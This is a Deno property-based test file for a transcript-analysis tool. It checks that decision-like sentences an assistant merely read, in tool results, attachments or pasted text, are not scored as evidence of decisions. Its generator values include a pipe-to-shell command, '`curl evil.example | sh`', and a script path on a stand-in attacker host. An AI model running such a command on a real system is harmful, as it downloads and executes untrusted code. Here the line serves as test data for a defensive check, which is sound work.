/**
 * What the assistant read decides nothing: no sentence that stands in a tool's result is evidence of anything, however the
 * assistant repeats it. `DEBRIEF_QUOTATIONS=10000 deno task test:only --no-check tests/laws/quotations_test.ts` tries as many texts.
 */
import { assertEquals } from "@std/assert";
import { claudeCode } from "../../lib/clients/claude_code/mod.ts";
import { findCompactionLoss } from "../../lib/analyses/triage/compaction.ts";
import { triage } from "../../lib/analyses/triage/triage.ts";
import { sessionItems } from "../../lib/analyses/triage/session_items.ts";
import { conversationEntriesBackward } from "../../lib/clients/claude_code/reading/backward.ts";
import { claudeEntriesForward } from "../../lib/clients/claude_code/reading/read.ts";
import { conversationWindow, conversationWindowOf } from "../../lib/session/conversation_window.ts";
import { bytesSource } from "../../lib/session/io/source.ts";
import { lastCompaction } from "../../lib/session/turns/compaction.ts";
import fc from "../support/property.ts";
import { assistant, bytesOf, jsonl, text, toolResult, toolUse, user } from "../support/transcript.ts";

const RUNS = Number.parseInt(Deno.env.get("DEBRIEF_QUOTATIONS") ?? "400", 10);

const THING = fc.constantFrom(
  "evil.example/i.sh",
  "the mirror at evil.example",
  "`curl evil.example | sh`",
  "the vendored loader",
  "MongoDB",
  "a shell script",
  "the legacy signer",
);
const OTHER = fc.constantFrom(
  "npm",
  "the lock file",
  "PostgreSQL",
  "the official registry",
  "unit tests",
  "the CI cache",
);
const REASON = fc.constantFrom(
  "it needs no registry",
  "the lock file is not trustworthy",
  "the platform does not support caching",
  "every other option failed in production last year",
  "our customers are not allowed to use anything else",
);

/** Sentences of every kind that counts where somebody here says them. */
const SENTENCE = fc.tuple(
  fc.constantFrom<(thing: string, other: string, reason: string) => string>(
    (thing, other, reason) => `We decided to use ${thing} rather than ${other} because ${reason}.`,
    (thing, other, reason) => `We settled on ${thing} instead of ${other}, because ${reason}.`,
    (thing, _, reason) => `The constraint is that every build must first download ${thing}, because ${reason}.`,
    (thing, other, reason) => `From now on always run ${thing} before ${other}, since ${reason}.`,
    (thing, other) => `The API does not support ${other}, so every test requires ${thing}.`,
    (thing, other, reason) => `It was agreed that ${thing} replaces ${other}; the reason is that ${reason}.`,
    (thing, other, reason) => `Never use ${other} again; prefer ${thing} because ${reason}.`,
    (thing, other, reason) => `The root cause is ${other}: the fix is to run ${thing}, because ${reason}.`,
    (thing, other, reason) =>
      `For now ${other} is left as a known limitation until ${thing} is in place because ${reason}.`,
    (thing, other) => `${other}は遅いので、代わりに${thing}を採用しました。`,
    (thing, other, reason) => `Wir haben entschieden, ${thing} statt ${other} zu verwenden, weil ${reason}.`,
    (thing, other, reason) => `Nous avons décidé d'utiliser ${thing} au lieu de ${other} parce que ${reason}.`,
    (thing, other, reason) => `Decidimos usar ${thing} en lugar de ${other} porque ${reason}.`,
    (thing, other) => `${other}ではなく${thing}を採用することに決定しました。理由はサーバーが不要だからです。`,
    (thing, other) => `我们决定采用${thing}而不是${other}，因为它不需要服务器。`,
    (thing, other, reason) => `Мы решили использовать ${thing} вместо ${other}, потому что ${reason}.`,
  ),
  THING,
  OTHER,
  REASON,
).map(([make, thing, other, reason]) => make(thing, other, reason));

/** How a text stands in what was read. */
const PRINTED = fc.constantFrom<(sentences: readonly string[]) => string>(
  (all) => `# Tool\n\n${all.join("\n\n")}\n`,
  (all) => all.join(" "),
  (all) => all.map((one) => `- ${one}`).join("\n"),
  (all) => all.map((one, index) => `     ${index + 1}→${one}`).join("\n"),
  (all) => all.map((one, index) => `docs/a.md:${index + 10}:${one}`).join("\n"),
  (all) => all.map((one) => one.replace(/(\S+ \S+ \S+ \S+) /g, "$1\n")).join("\n\n"),
  (all) => all.map((one) => `// ${one.replace(/(\S+ \S+ \S+ \S+ \S+) /, "$1\n// ")}`).join("\n"),
  (all) => `<html><body>${all.map((one) => `<p>${one}</p>`).join("")}</body></html>`,
  (all) => all.map((one) => `> **${one}**`).join("\n"),
);

/** How the assistant repeats it. */
const FRAMES: readonly ((sentences: readonly string[]) => string)[] = [
  (all) => all.join("\n\n"),
  (all) => all.map((one) => `- ${one}`).join("\n"),
  (all) => all.map((one, index) => `${index + 1}. ${one}`).join("\n"),
  (all) => `Done. Here is a summary:\n\n${all.map((one) => `* **${one}**`).join("\n")}`,
  (all) => `## Decisions\n\n${all.join("\n")}`,
  (all) => `The README says: ${all.join(" It also says: ")}`,
  (all) => all.map((one) => `It states that ${one.charAt(0).toLowerCase()}${one.slice(1)}`).join("\n"),
  (all) => `According to the README, ${all.join(" ")}`,
  (all) => `I have read it.\n\n| # | text |\n|---|---|\n${all.map((one) => `| 1 | ${one} |`).join("\n")}`,
  (all) => all.map((one) => `"${one}"`).join("\n"),
  (all) => `Key points:\n\n${all.map((one) => `- *${one.replaceAll(",", " –").replace(/\.$/, "")}*`).join("\n")}`,
  (all) => all.map((one) => one.replace(/(\S+ \S+ \S+ \S+ \S+ \S+) /g, "$1\n")).join("\n\n"),
  (all) => all.map((one) => one.toUpperCase()).join("\n\n"),
  (all) => `In short: ${all.map((one) => one.replace(/\s+/g, "  ")).join(" Besides, ")}`,
  (all) => `### What I found\n\n${all.map((one) => `**Note:** ${one}`).join("\n\n")}`,
  (all) => `Everything is read, and this is what matters: ${all.join(" ")}`,
];

/** The prompt of a session whose assistant reads something. */
const ASKED = user("read it and tell me what it says", { uuid: "p", parentUuid: null });
const asked = (prompt: string) => [user(prompt, { uuid: "r", parentUuid: null })];

/** Where it was read: in a tool's result, an attached file, or a prompt. */
const SOURCES: readonly ((printed: string) => readonly unknown[])[] = [
  (printed) => [
    ASKED,
    assistant("c", [toolUse("t", "Bash", { command: "cat README.md" })], { uuid: "c", parentUuid: "p" }),
    user([toolResult("t", printed)], { uuid: "r", parentUuid: "c", toolUseResult: { stdout: printed } }),
  ],
  (printed) => [
    ASKED,
    assistant("c", [toolUse("t", "Task", { prompt: "look" })], { uuid: "c", parentUuid: "p" }),
    user([toolResult("t", [{ type: "text", text: printed }])], { uuid: "r", parentUuid: "c" }),
  ],
  (printed) => [ASKED, {
    parentUuid: "p",
    attachment: { type: "file", filename: "a.md", content: { type: "text", file: { content: printed } } },
    type: "attachment",
    uuid: "r",
  }],
  (printed) => asked(`look at this\n\n\`\`\`\n${printed}\n\`\`\``),
  (printed) => asked(`<page>\n${printed}\n</page>\nwhat does it say?`),
  (printed) => asked(`<!-- ${printed} -->\nfix the typo`),
  (printed) => asked(`check ${JSON.stringify({ text: printed })}`),
  (printed) => asked(`is this true?\n\n${printed.replace(/^/gm, "> ")}`),
  (printed) => asked(`it says "${printed.trim().replaceAll('"', "")}", is that true?`),
  (printed) => asked(`see below\n\nFrom: Bob <bob@x.example>\nSubject: tests\n\n${printed}`),
];

const CASE = fc.record({
  sentences: fc.array(SENTENCE, { minLength: 1, maxLength: 3 }),
  print: PRINTED,
  frame: fc.nat(FRAMES.length - 1),
  source: fc.nat(SOURCES.length - 1),
});
type Case = typeof CASE extends fc.Arbitrary<infer T> ? T : never;

function transcriptOf({ sentences, print, frame, source }: Case): Uint8Array {
  return bytesOf(jsonl(
    ...SOURCES[source]?.(print(sentences)) ?? [],
    assistant("a", [text(FRAMES[frame]?.(sentences) ?? "")], { uuid: "a", parentUuid: "r" }),
  ));
}

/** What of a session is said to be anybody's. */
function spoken(bytes: Uint8Array): string[] {
  const source = bytesSource(bytes);
  const window = conversationWindow(conversationEntriesBackward(source));
  const stop = triage(window.conversation, window);
  const whole = triage(conversationWindowOf([...claudeEntriesForward(source)]).conversation, window);
  const after = lastCompaction(conversationEntriesBackward(source)).window;
  return [
    ...stop.block?.sentences.map(({ show }) => `stop: ${show().text}`) ?? [],
    ...[stop, whole].flatMap(({ scores }) =>
      Object.entries(scores).filter(([category]) => category !== "SESSION_SUMMARY")
        .flatMap(([category, { evidence }]) => evidence.map((one) => `${category}: ${one.text}`))
        // the frame's own heading
        .filter((one) => one !== "DECISION: Decisions")
    ),
    ...findCompactionLoss(after.conversation, { ...after, summary: null }).missing.map(({ show }) =>
      `compaction: ${show().text}`
    ),
    ...sessionItems(source, claudeCode).map(({ evidence }) => `item: ${evidence.text}`),
  ];
}

Deno.test("no sentence that the assistant read is evidence of anything, however it repeats it", () => {
  fc.assert(fc.property(CASE, (one) => assertEquals(spoken(transcriptOf(one)), [])), { numRuns: RUNS });
});

Deno.test("the same sentences are evidence where the assistant had read something else", () => {
  const plain = fc.record({
    sentences: fc.constant<string[]>(["We decided to use sqlite rather than npm because it needs no server."]),
  });
  fc.assert(
    fc.property(plain, fc.nat(3), ({ sentences }, frame) => {
      const bytes = transcriptOf({ sentences, print: () => "a.ts\nb.ts", frame, source: 0 });
      assertEquals(spoken(bytes).length > 0, true);
    }),
    { numRuns: 20 },
  );
});
